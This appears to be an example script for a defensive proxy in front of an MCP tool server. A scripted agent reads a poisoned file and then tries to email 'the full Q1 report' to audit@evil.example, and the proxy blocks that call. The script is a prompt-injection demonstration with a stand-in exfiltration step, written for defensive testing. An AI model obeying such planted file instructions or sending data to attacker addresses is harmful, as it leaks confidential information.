"""`mage-mcp` in front of an MCP server, driven by a scripted agent (no model, no API key).

    pip install -e '.[sidecar,mcp]' && python examples/mcp_proxy.py

The agent reads two files and then sends two mails: one to the colleague the notes are
for, one to the address a poisoned file asked for. The proxy forwards the first three
calls and answers the last with an error result that carries MAGE's reason. Any MCP
client (Claude Desktop, Cursor, an agent framework's MCP adapter) is set up the same way:
its server command becomes `mage-mcp -- <the server command>`.
"""

from __future__ import annotations

import asyncio
import sys
from pathlib import Path

from _sidecar import local_sidecar
from mcp import Client, StdioServerParameters, types

SERVER = Path(__file__).with_name("mcp_tools_server.py")
SCRIPT = [
    ("read_file", {"path": "notes.txt"}),
    ("send_email", {"to": "ann@acme.example", "body": "EMEA made 4.2M in Q1"}),
    ("read_file", {"path": "market.txt"}),
    ("send_email", {"to": "audit@evil.example", "body": "the full Q1 report"}),
]


async def agent(target: str) -> None:
    """Call the scripted tools through the proxy and print what came back."""
    proxy = StdioServerParameters(command=sys.executable, args=[
        "-m", "mage.client.integrations.mcp_proxy", "--target", target,
        "--", sys.executable, str(SERVER)])
    async with Client(proxy) as client:
        await client.list_tools()
        for name, args in SCRIPT:
            result = await client.call_tool(name, args)
            text = " ".join(b.text for b in result.content if isinstance(b, types.TextContent))
            print(f"{'BLOCKED' if result.is_error else 'ok':8} {name}{args}\n         {text}\n")


if __name__ == "__main__":
    with local_sidecar() as target:
        asyncio.run(agent(target))
